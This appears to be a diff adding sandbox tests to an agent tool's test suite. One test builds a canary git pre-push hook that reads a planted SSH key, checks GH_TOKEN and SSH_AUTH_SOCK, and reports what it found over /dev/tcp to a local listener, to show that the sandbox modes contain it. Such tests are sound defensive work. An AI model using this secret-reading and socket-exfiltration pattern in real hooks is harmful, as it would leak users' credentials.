@@ -6,6 +6,8 @@ import { bubblewrap } from "../support/sandbox.ts";
 import { scratchRepository, writeFiles } from "../support/scratch.ts";
 import { artifact, eventsOf, privateState, runArtifact } from "./artifact.ts";
 import { agent, listenAt, listener, placesOfSockets, probe, python, withKey } from "./canaries.ts";
+import { playground } from "./playground.ts";
+import { writing } from "./scripted-endpoint.ts";
 
 const why = bubblewrap === null ? " (skipped: bubblewrap is not installed here)" : "";
 
@@ -116,6 +118,59 @@ test.skipIf(bubblewrap === null)(
     }
     expect(written).toEqual([]);
     expect(eventsOf(ended.events, "run.finished")[0]).toMatchObject({ outcome: "delivered" });
+  },
+);
+
+test.skipIf(bubblewrap === null)(
+  `--sandbox=net-off holds for everything but a program that asks its own model${why}`,
+  async () => {
+    const { ended, said, written } = await runWith("--sandbox=net-off");
+    expect([ended.exitCode, ended.stderr]).toEqual([0, expect.any(String)]);
+    expect([...said.keys()].toSorted()).toEqual(["agent", "asker", "repair", "server"]);
+    for (const had of said.values()) expect(had).toEqual(["abstract", "own-worktree", "own-history", "temp"]);
+    expect(written).toEqual([]);
+    // What was not heard has run: checks, hooks and set-up are why the work landed.
+    expect(eventsOf(ended.events, "run.finished")[0]).toMatchObject({ outcome: "delivered" });
+  },
+);
+
+test.skipIf(bubblewrap === null)(
+  `the sandbox holds for a pre-push hook, which sees it all without one${why}`,
+  async () => {
+    await using heard = await listener();
+    const hook = (folder: string) =>
+      [
+        "#!/bin/bash",
+        "said=pre-push",
+        `cat ${folder}/home/.ssh/id_canary >/dev/null && said="$said key"`,
+        `touch ${folder}/wrote`,
+        '[ -n "$GH_TOKEN$SSH_AUTH_SOCK" ] && said="$said variable"',
+        `exec 3<>/dev/tcp/127.0.0.1/${heard.port} && echo "$said" >&3`,
+        "true",
+      ].join("\n");
+    await using play = await playground({ stories: { "Fix the typo in a.txt": [writing({ "a.txt": "b\n" })] } }, hook);
+    writeFiles(play.state.path, { "home/.ssh/id_canary": "key\n" });
+    const push = async (...flags: string[]) => {
+      const goal = [
+        "Fix the typo in a.txt",
+        "--mode",
+        "focused",
+        "--intake",
+        "rules",
+        "--no-verify",
+        "--deliver",
+        "pr",
+      ];
+      const { delivered } = await play.run([...goal, "--yes", ...flags], { env: { SSH_AUTH_SOCK: "/nowhere" } });
+      const had = heard.said.get("pre-push");
+      heard.said.clear();
+      return [delivered?.kind, had];
+    };
+    expect(await push("--sandbox=net-off")).toEqual(["pr", undefined]);
+    expect(existsSync(join(play.state.path, "wrote"))).toBe(false);
+    expect(await push("--sandbox")).toEqual(["pr", []]);
+    expect(existsSync(join(play.state.path, "wrote"))).toBe(false);
+    expect(await push("--no-sandbox")).toEqual(["pr", ["key", "variable"]]);
   },
 );
 
